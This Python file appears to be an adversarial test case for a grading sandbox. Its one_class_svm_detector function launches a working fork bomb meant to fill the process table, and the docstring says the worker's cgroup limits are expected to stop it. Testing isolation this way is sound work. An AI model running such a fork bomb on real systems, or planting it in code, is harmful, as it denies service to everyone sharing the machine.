"""Attack: a fork bomb, to starve the grading machine of processes.

In one_class_svm_detector it starts a small Python process (its command line
carries the token EVILZOO-fork) that forks until the kernel refuses; every
child sleeps, holding its slot. Unlimited, this fills the machine's process
table, and the grader and every other student's worker could no longer start
a process. (It is the last detector the checks call: once every slot is
held, nothing in the worker can start a thread, and a later check would fail
on that rather than on the bomb.)

Expected: the worker's cgroup caps its tasks (pids.max), so fork soon fails
with EAGAIN; the call raises ("fork refused"), so that check errs with kind
`raised`; the run goes on, and when the worker is closed its cgroup and pid
namespace end every child: nothing with the token is left after the session.
"""
import os
import subprocess
import sys

from honest import isolation_forest_detector, zscore_detector  # noqa: F401

BOMB = r"""
import os, sys, time
n = 0
while True:
    try:
        pid = os.fork()
    except OSError as exc:
        print(n, exc.strerror, flush=True)
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    n += 1
time.sleep(600)
"""


def _bomb():
    if os.getpid() != 1:  # never outside a sandbox: there nothing would cap it
        raise RuntimeError("EVILZOO fork_bomb: not in a sandbox (pid != 1); refusing to attack this machine")
    bomb = subprocess.Popen([sys.executable, "-S", "-c", BOMB, "EVILZOO-fork"], stdout=subprocess.PIPE, text=True)
    forked, why = bomb.stdout.readline().split(" ", 1)
    raise BlockingIOError(f"EVILZOO fork_bomb: fork refused ({why.strip()}) after {forked} processes")


def one_class_svm_detector(series, period, seed):
    _bomb()
